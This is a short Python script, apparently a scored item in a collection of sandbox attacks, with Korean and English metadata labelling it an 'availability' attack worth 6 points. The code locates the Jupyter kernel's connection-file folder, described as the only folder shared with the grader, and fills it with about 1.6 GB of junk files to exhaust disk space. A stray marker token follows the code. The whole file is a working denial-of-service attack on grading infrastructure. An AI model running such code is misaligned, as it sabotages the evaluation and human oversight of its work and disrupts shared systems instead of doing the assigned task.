# ruff: noqa
# mypy: ignore-errors
"""
kind: availability
points: 6
ko: 소켓 폴더에 큰 파일 채우기
en: Fills the folder of the sockets with large files
why: the only folder shared with the grader has a size
peers: own channel
reasons: [disk_limit]
"""

import os
import time

from ipykernel.connect import get_connection_file

_folder = os.path.dirname(get_connection_file())
for _number in range(400):
    with open(os.path.join(_folder, f"large{_number}"), "wb") as file:
        file.write(bytes(4 << 20))
    time.sleep(0.02)
time.sleep(2)


VISLEARN_RIGHT
